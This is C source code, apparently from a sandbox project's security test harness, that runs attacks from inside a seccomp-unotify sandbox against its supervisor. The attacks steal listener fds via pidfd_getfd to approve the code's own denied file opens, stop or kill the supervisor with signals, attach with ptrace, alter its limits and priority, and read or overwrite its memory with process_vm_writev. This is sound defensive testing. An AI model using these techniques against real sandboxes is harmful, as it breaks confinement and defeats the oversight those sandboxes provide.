/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The supervisor as a process. Nothing in a default-allow policy stops a
 * program that may ptrace, signal or inspect processes of its uid from
 * doing so to its own supervisor, which is its parent (`unotify run`) or a
 * known daemon. Each command does one such thing and checks the effect
 * from the kernel's side (the supervisor's state, its limits, its fds).
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/kcmp.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>

#include "attack.h"

#define MAX_STOLEN 256

/* A listener taken from another process: what it is, by its anon inode's name. */
bool is_listener(int fd)
{
	char link[64], name[64];
	ssize_t n;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	n = readlink(link, name, sizeof(name) - 1);
	if (n <= 0)
		return false;
	name[n] = '\0';
	return strcmp(name, "anon_inode:seccomp notify") == 0;
}

/* Every seccomp listener of pidfd's process, copied with pidfd_getfd; -errno when refused. */
int take_listeners_pidfd(int pidfd, int *fds, int max)
{
	int n = 0, err = 0;

	for (int target = 0; target < 4096 && n < max; target++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);

		if (fd < 0) {
			if (errno != EBADF && !err)
				err = errno;
			continue;
		}
		if (is_listener(fd))
			fds[n++] = fd;
		else
			close(fd);
	}
	return n > 0 ? n : -(err ? err : ENOENT);
}

/* The same for pid. */
static int take_listeners(pid_t pid, int *fds, int max)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	int n;

	if (pidfd < 0)
		return -errno;
	n = take_listeners_pidfd(pidfd, fds, max);
	close(pidfd);
	return n;
}

/* Held open before the supervisor stops: opening it later would wait for the supervisor. */
static int stat_fd(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	return open(path, O_RDONLY | O_CLOEXEC);
}

static char state_of(int fd)
{
	char buf[512], *p;
	ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);

	if (n <= 0)
		return '?';
	buf[n] = '\0';
	p = strrchr(buf, ')');
	return p && p[1] == ' ' ? p[2] : '?';
}

/* Waits (a bounded pause, not a measurement) for the state to become want. */
static bool wait_state(int fd, char want)
{
	for (int i = 0; i < 200; i++) {
		if (state_of(fd) == want)
			return true;
		pause_ms(10);
	}
	return false;
}

/* Answers every pending notification of the stolen listeners; value for getppid. */
int answer_all(const int *fds, int n, int timeout_ms, long value, int *ret_count)
{
	static char req[4096];
	struct pollfd p[MAX_STOLEN];
	int ready;

	for (int i = 0; i < n; i++)
		p[i] = (struct pollfd){ .fd = fds[i], .events = POLLIN };
	ready = poll(p, (nfds_t)n, timeout_ms);
	for (int i = 0; ready > 0 && i < n; i++) {
		struct seccomp_notif *r = (struct seccomp_notif *)req;
		struct seccomp_notif_resp resp = { 0 };

		if (!(p[i].revents & POLLIN))
			continue;
		memset(req, 0, sizeof(req));
		if (ioctl(fds[i], SECCOMP_IOCTL_NOTIF_RECV, r) < 0)
			continue;
		resp.id = r->id;
		if (r->data.nr == SYS_getppid && value >= 0)
			resp.val = value;
		else
			resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		if (ioctl(fds[i], SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
			(*ret_count)++;
	}
	return ready;
}

/* The child whose denied open we answer CONTINUE ourselves; its verdict comes up a pipe. */
pid_t spawn_reader(const char *secret, int *ret_fd)
{
	int p[2];
	pid_t child;

	if (pipe(p) < 0)
		return -1;
	child = fork();
	if (child == 0) {
		close(p[0]);
		dup2(p[1], STDOUT_FILENO);
		leak_path(AT_FDCWD, secret);
		_exit(0);
	}
	close(p[1]);
	*ret_fd = p[0];
	return child;
}

/*
 * steal-listener SECRET: take the supervisor's listener, stop the
 * supervisor, and answer CONTINUE to our own child's denied open.
 */
static int cmd_steal_listener(int argc, char **argv)
{
	int fds[MAX_STOLEN], n, st, out, answered = 0;
	pid_t sup = sup_pid(), child;
	char buf[512] = "";
	ssize_t len = 0;

	if (argc != 1)
		return 2;
	n = take_listeners(sup, fds, MAX_STOLEN);
	if (n < 0)
		return blocked(-n);
	note("took %d listener(s) of the supervisor %d", n, (int)sup);
	st = stat_fd(sup);
	if (kill(sup, SIGSTOP) < 0)
		note("SIGSTOP refused: %s; racing the supervisor instead", errname(errno));
	else if (wait_state(st, 'T'))
		note("supervisor stopped");
	child = spawn_reader(argv[0], &out);
	if (child < 0)
		return setup_failed("fork", errno);
	while (waitpid(child, NULL, WNOHANG) == 0)
		answer_all(fds, n, 100, -1, &answered);
	len = read(out, buf, sizeof(buf) - 1);
	buf[len > 0 ? len : 0] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	kill(sup, SIGCONT);
	note("answered %d notification(s) ourselves", answered);
	result("%s", *buf ? buf : "BLOCKED child-silent");
	return 0;
}

/*
 * The supervisor's process group, signalled from a child in a group of its
 * own: no pid of the supervisor's appears in the call (the program is in
 * that group too, so only SIGSTOP is tried this way; SIGCONT ends it).
 */
static int signal_group(pid_t sup, int sig)
{
	pid_t pgid = getpgid(sup), child;
	int st = stat_fd(sup), status;

	if (pgid < 0)
		return -1;
	child = fork();
	if (child == 0) {
		setpgid(0, 0);
		if (kill(-pgid, sig) < 0) {
			blocked(errno);
			_exit(0);
		}
		if (wait_state(st, 'T'))
			result("STOPPED %d through its process group %d", (int)sup, (int)pgid);
		else
			result("BLOCKED not-stopped");
		kill(-pgid, SIGCONT);
		_exit(0);
	}
	waitpid(child, &status, 0);
	return 1;
}

static int send_signal(pid_t sup, int sig, const char *how)
{
	union sigval v = { 0 };

	if (strcmp(how, "pgrp") == 0)
		return signal_group(sup, sig);
	if (strcmp(how, "kill") == 0)
		return kill(sup, sig);
	if (strcmp(how, "tgkill") == 0)
		return (int)syscall(SYS_tgkill, sup, parse_pid("@SUPTID"), sig);
	if (strcmp(how, "sigqueue") == 0)
		return sigqueue(sup, sig, v);
	if (strcmp(how, "pidfd") == 0) {
		int fd = (int)syscall(SYS_pidfd_open, sup, 0);
		int r = fd < 0 ? -1 : (int)syscall(SYS_pidfd_send_signal, fd, sig, NULL, 0);

		if (fd >= 0)
			close(fd);
		return r;
	}
	errno = EINVAL;
	return -1;
}

/* signal SIG kill|tgkill|sigqueue|pidfd|pgrp: did the supervisor stop, or die? */
static int cmd_signal(int argc, char **argv)
{
	pid_t sup = sup_pid();
	int sig, st, r;

	if (argc != 2)
		return 2;
	sig = (int)parse_long(argv[0]);
	/* The supervisor forwards these to us: they must not end the attack. */
	signal(SIGTERM, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	signal(SIGUSR1, SIG_IGN);
	signal(SIGUSR2, SIG_IGN);
	st = stat_fd(sup);
	r = send_signal(sup, sig, argv[1]);
	if (r < 0)
		return blocked(errno);
	if (r > 0)
		return 0; /* the child of signal_group() said what happened */
	if (sig == SIGSTOP) {
		if (!wait_state(st, 'T'))
			return blocked(0);
		kill(sup, SIGCONT);
		result("STOPPED %d", (int)sup);
		return 0;
	}
	for (int i = 0; i < 200 && getppid() == sup; i++)
		pause_ms(10);
	if (getppid() != sup) {
		result("KILLED %d", (int)sup);
		return 0;
	}
	result("BLOCKED alive state=%c", state_of(st));
	return 0;
}

/* ptrace PID: PTRACE_SEIZE (no stop); attached means its memory and registers are ours. */
static int cmd_ptrace(int argc, char **argv)
{
	pid_t pid;

	if (argc != 1)
		return 2;
	pid = parse_pid(argv[0]);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return blocked(errno);
	result("ATTACHED %d", (int)pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return 0;
}

static const struct {
	const char *name;
	int res;
} rlimits[] = {
	{ "nofile", RLIMIT_NOFILE }, { "cpu", RLIMIT_CPU },   { "as", RLIMIT_AS },
	{ "nproc", RLIMIT_NPROC },   { "stack", RLIMIT_STACK }, { NULL, 0 },
};

/* prlimit PID RES VALUE [SECRET]: the supervisor's limit, then (optionally) a denied open. */
static int cmd_prlimit(int argc, char **argv)
{
	struct rlimit rl;
	pid_t pid;
	int res = -1;

	if (argc < 3 || argc > 4)
		return 2;
	pid = parse_pid(argv[0]);
	for (int i = 0; rlimits[i].name; i++)
		if (strcmp(rlimits[i].name, argv[1]) == 0)
			res = rlimits[i].res;
	if (res < 0)
		return 2;
	rl.rlim_cur = rl.rlim_max = (rlim_t)parse_long(argv[2]);
	if (prlimit(pid, (enum __rlimit_resource)res, &rl, NULL) < 0) {
		blocked(errno);
	} else {
		prlimit(pid, (enum __rlimit_resource)res, NULL, &rl);
		result("CHANGED %s=%llu of %d", argv[1], (unsigned long long)rl.rlim_cur, (int)pid);
	}
	if (argc == 4) {
		printf("then ");
		leak_path(AT_FDCWD, argv[3]);
	}
	return 0;
}

/* kcmp PID: compare our fd 1 with theirs; an answer at all is an inspection of the supervisor. */
static int cmd_kcmp(int argc, char **argv)
{
	pid_t pid;
	long r;

	if (argc != 1)
		return 2;
	pid = parse_pid(argv[0]);
	r = syscall(SYS_kcmp, getpid(), pid, KCMP_FILE, 1, 1);
	if (r < 0)
		return blocked(errno);
	result("INSPECTED kcmp=%ld of %d", r, (int)pid);
	return 0;
}

/* affinity PID: pin the supervisor to one CPU; check it took; put it back. */
static int cmd_affinity(int argc, char **argv)
{
	cpu_set_t old, one, now;
	pid_t pid;
	int cpu;

	if (argc != 1)
		return 2;
	pid = parse_pid(argv[0]);
	if (sched_getaffinity(pid, sizeof(old), &old) < 0)
		return blocked(errno);
	for (cpu = CPU_SETSIZE - 1; cpu > 0 && !CPU_ISSET(cpu, &old); cpu--)
		;
	CPU_ZERO(&one);
	CPU_SET(cpu, &one);
	if (sched_setaffinity(pid, sizeof(one), &one) < 0)
		return blocked(errno);
	sched_getaffinity(pid, sizeof(now), &now);
	sched_setaffinity(pid, sizeof(old), &old);
	if (!CPU_EQUAL(&now, &one))
		return blocked(0);
	result("CHANGED affinity of %d to cpu %d", (int)pid, cpu);
	return 0;
}

/* nice PID: the supervisor's priority to 19. */
static int cmd_nice(int argc, char **argv)
{
	pid_t pid;
	int now;

	if (argc != 1)
		return 2;
	pid = parse_pid(argv[0]);
	if (setpriority(PRIO_PROCESS, (id_t)pid, 19) < 0)
		return blocked(errno);
	errno = 0;
	now = getpriority(PRIO_PROCESS, (id_t)pid);
	result("CHANGED nice of %d to %d", (int)pid, now);
	return 0;
}

/* perf PID: a software counter on the supervisor. */
static int cmd_perf(int argc, char **argv)
{
	struct perf_event_attr a = { .type = PERF_TYPE_SOFTWARE, .size = sizeof(a),
				     .config = PERF_COUNT_SW_CONTEXT_SWITCHES };
	pid_t pid;
	int fd;

	if (argc != 1)
		return 2;
	pid = parse_pid(argv[0]);
	fd = (int)syscall(SYS_perf_event_open, &a, pid, -1, -1, 0);
	if (fd < 0)
		return blocked(errno);
	result("SPYING perf fd on %d", (int)pid);
	close(fd);
	return 0;
}

/* The mem_io of process_vm_readv/writev. */
static ssize_t vm_io(void *ctx, void *buf, size_t len, unsigned long addr, bool write)
{
	pid_t pid = *(pid_t *)ctx;
	struct iovec local = { buf, len }, remote = { (void *)addr, len };

	return write ? process_vm_writev(pid, &local, 1, &remote, 1, 0) :
		       process_vm_readv(pid, &local, 1, &remote, 1, 0);
}

/* vm-scan PID NEEDLE / vm-flip PID NEEDLE PATH: as mem-scan and mem-flip, with process_vm_*. */
static int vm_attack(int argc, char **argv, bool flip)
{
	static struct mapping maps[512];
	unsigned long first = 0;
	struct iovec probe_l, probe_r;
	char byte;
	pid_t pid;
	long hits;
	int n;

	if (argc != (flip ? 3 : 2))
		return 2;
	pid = parse_pid(argv[0]);
	n = maps_read(pid, maps, 512);
	if (n <= 0)
		return blocked(n < 0 ? -n : ENOENT);
	probe_l = (struct iovec){ &byte, 1 };
	probe_r = (struct iovec){ (void *)maps[0].start, 1 };
	if (process_vm_readv(pid, &probe_l, 1, &probe_r, 1, 0) < 0)
		return blocked(errno);
	hits = mem_scan(vm_io, &pid, maps, n, argv[1], flip, &first);
	if (flip) {
		note("flipped %ld copies in %d", hits, (int)pid);
		return leak_path(AT_FDCWD, argv[2]);
	}
	if (hits == 0)
		return blocked(ENOENT);
	result("LEAK %zu memory of %d at %#lx: %s", strlen(argv[1]), (int)pid, first, argv[1]);
	return 0;
}

static int cmd_vm_scan(int argc, char **argv)
{
	return vm_attack(argc, argv, false);
}

static int cmd_vm_flip(int argc, char **argv)
{
	return vm_attack(argc, argv, true);
}

/*
 * steal-daemon PID SECONDS VALUE: every listener of the daemon, the daemon
 * stopped, and every sandbox's getppid answered VALUE by us for SECONDS.
 */
static int cmd_steal_daemon(int argc, char **argv)
{
	int fds[MAX_STOLEN], n, st, answered = 0;
	long ms, value;
	pid_t pid;

	if (argc != 3)
		return 2;
	pid = parse_pid(argv[0]);
	ms = parse_long(argv[1]) * 1000;
	value = parse_long(argv[2]);
	n = take_listeners(pid, fds, MAX_STOLEN);
	if (n < 0)
		return blocked(-n);
	st = stat_fd(pid);
	if (kill(pid, SIGSTOP) == 0 && wait_state(st, 'T'))
		note("daemon %d stopped", (int)pid);
	for (long waited = 0; waited < ms; waited += 50)
		answer_all(fds, n, 50, value, &answered);
	kill(pid, SIGCONT);
	result("STOLE %d listeners of %d, answered %d calls", n, (int)pid, answered);
	return 0;
}

const struct attack_cmd attack_sup_cmds[] = {
	{ "steal-listener", "SECRET     pidfd_getfd the listener, SIGSTOP, CONTINUE our open",
	  cmd_steal_listener },
	{ "signal", "SIG kill|tgkill|sigqueue|pidfd|pgrp  signal the supervisor", cmd_signal },
	{ "ptrace", "PID                PTRACE_SEIZE", cmd_ptrace },
	{ "prlimit", "PID RES VAL [SECRET]  prlimit nofile|cpu|as|nproc|stack", cmd_prlimit },
	{ "kcmp", "PID                  kcmp KCMP_FILE against PID", cmd_kcmp },
	{ "affinity", "PID              sched_setaffinity on PID", cmd_affinity },
	{ "nice", "PID                  setpriority 19 on PID", cmd_nice },
	{ "perf", "PID                  perf_event_open on PID", cmd_perf },
	{ "vm-scan", "PID NEEDLE        process_vm_readv PID for NEEDLE", cmd_vm_scan },
	{ "vm-flip", "PID NEEDLE PATH   process_vm_writev over NEEDLE, read PATH", cmd_vm_flip },
	{ "steal-daemon", "PID SECS VALUE   take every listener of PID and answer them",
	  cmd_steal_daemon },
	{ NULL, NULL, NULL },
};
